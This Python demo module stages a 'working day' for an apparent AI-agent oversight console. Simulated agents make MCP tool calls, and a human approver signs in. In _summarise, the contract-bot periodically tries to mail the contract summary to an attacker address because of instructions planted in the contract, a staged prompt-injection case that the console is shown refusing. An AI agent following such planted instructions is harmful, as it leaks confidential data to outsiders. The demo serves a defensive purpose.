# SPDX-License-Identifier: Apache-2.0
"""A working day for the console: agents of two teams at work on real MCP servers, until it is interrupted."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
from collections.abc import Awaitable, Callable, Coroutine
from pathlib import Path

from mcp import Client
from rich.console import Console
from rich.panel import Panel

from remit.cli.demo.stage import Stage, stage
from remit.cli.demo.task_story import ATTACKER, SUMMARY, refused

#: Agents, with their owner and purpose.
AGENTS = {
    "contract-bot": ("lena", "Summarise contracts and draft changes for the legal team"),
    "ticket-bot": ("lena", "Look through tickets for the legal team"),
    "inbox-bot": ("lena", "Answer the shared inbox"),
    "release-bot": ("mara", "Release approved changes"),
    "archive-bot": ("mara", "File what is older than a year"),
    "trial-bot": ("mara", "Try out a new model"),
}
PEOPLE = {
    "lena": ("viewer",),
    "mara": ("viewer",),
    "omar": ("approver", "operator", "auditor", "administrator"),
}
#: Seconds between two calls of one agent.
PAUSE_S = 4.0

Shift = Callable[[Client, int], Awaitable[None]]


async def working_day(folder: Path, *, ready: Callable[[Stage], Awaitable[None]]) -> None:
    """Run the day below a folder until `ready` returns, which is awaited once there is something to see."""
    async with stage(folder, day=True) as made:
        for name, roles in PEOPLE.items():
            await made.add_person(name, list(roles))
        for name, (owner, purpose) in AGENTS.items():
            await made.enrol(name, purpose, owner=owner)
        state = {"state": "suspended", "reason": "the trial is over"}
        await made.ask("POST", "/api/v1/agents/trial-bot/state", state, by="admin")
        shifts = [asyncio.create_task(begun) for begun in _shifts(made)]
        try:
            await asyncio.sleep(2 * PAUSE_S)
            await ready(made)
        finally:
            for one in shifts:
                one.cancel()
            await asyncio.gather(*shifts, return_exceptions=True)


def _shifts(made: Stage) -> list[Coroutine[None, None, None]]:
    contract = {"contract": "C-42", "ticket": "T-1"}
    goal = "Summarise contract C-42 for the board, and note in ticket T-1 that it is done"
    inbox = "Go through the shared inbox, and open a ticket for what needs us"
    release = "Release the new delay clause, CH-9, to production"
    triage = "Look through the open tickets"
    return [
        _shift(made, "contract-bot", "summarise-contract", goal, contract, _summarise, by="lena"),
        _shift(made, "inbox-bot", "answer-inbox", inbox, {}, _answer, by="lena"),
        _shift(made, "ticket-bot", "triage-tickets", triage, {}, _triage, by="lena"),
        _shift(made, "release-bot", "release-change", release, {"change": "CH-9"}, _release, by="mara"),
    ]


async def _shift(
    made: Stage, agent: str, task_type: str, goal: str, params: dict[str, str], work: Shift, *, by: str
) -> None:
    """Let one agent work, with a new task whenever the last one has ended."""
    task = ""
    for turn in itertools.count():
        # A task that a person has ended stays ended; the next one is opened a little later.
        with contextlib.suppress(RuntimeError, OSError, ExceptionGroup):
            if not task or (await made.ask("GET", f"/api/v1/tasks/{task}", by="admin"))["state"] != "active":
                if task:
                    await asyncio.sleep(10 * PAUSE_S)
                task, _ = await made.open_task(agent, task_type, goal, params, by=by)
            async with made.client(await made.agent_token(agent, task)) as client:
                await work(client, turn)
        await asyncio.sleep(PAUSE_S)


async def _summarise(client: Client, turn: int) -> None:
    await client.call_tool("contracts__read", {"path": "contracts/C-42.md"})
    await asyncio.sleep(PAUSE_S)
    if turn % 3 == 1:
        # What the contract tells it to do.
        mail = {"to": ATTACKER, "subject": "C-42", "body": SUMMARY}
        await refused(client, "mail__send", mail)
    else:
        await refused(client, "contracts__write_summary", {"contract": "C-42", "text": SUMMARY})


async def _answer(client: Client, turn: int) -> None:
    await client.call_tool("mail__inbox", {})
    await asyncio.sleep(PAUSE_S)
    if turn % 4 == 0:
        ticket = {"title": "A question about gauges", "body": "A customer asks when lot 3 arrives."}
        await refused(client, "tickets__create", ticket)


async def _triage(client: Client, turn: int) -> None:
    await client.call_tool("tickets__list", {})
    await asyncio.sleep(PAUSE_S)
    if turn % 2:
        await client.call_tool("tickets__read", {"ticket": "T-1"})


async def _release(client: Client, turn: int) -> None:
    draft = {"change_id": "CH-9", "title": "Delay clause", "diff": "+ two per cent a week"}
    if turn == 0:
        await client.call_tool("deploy__draft", draft)
    await asyncio.sleep(PAUSE_S)
    # Waits for a person each time; the answer lets the next round deploy.
    await refused(client, "deploy__deploy", {"change_id": "CH-9", "environment": "production"})


async def show_console(folder: Path, console: Console) -> int:
    """Run the day, and tell how to look at it, until it is interrupted."""

    async def ready(made: Stage) -> None:
        address = f"http://localhost:{made.url.rpartition(':')[2]}/console"
        while True:
            code = (await made.ask("POST", "/api/v1/people/omar/code", {}, by="admin"))["code"]
            text = (
                f"Open [bold]{address}[/]\nsign in with the one-time code [bold]{code}[/]\n\n"
                "You are omar, who approves, operates and audits. Four agents are at work: see who they are\n"
                "and what each may do, answer the question that waits, and end one.\n\n"
                "[dim]Enter: another code · Ctrl-C: the end of the day[/]"
            )
            console.print(Panel(text, title="the console", border_style="green", expand=False))
            await asyncio.to_thread(_line)

    with contextlib.suppress(asyncio.CancelledError):
        await working_day(folder, ready=ready)
    return 0


def _line() -> None:
    try:
        input()
    except EOFError:
        # Without a terminal there is no one to ask for another code.
        import threading

        threading.Event().wait()
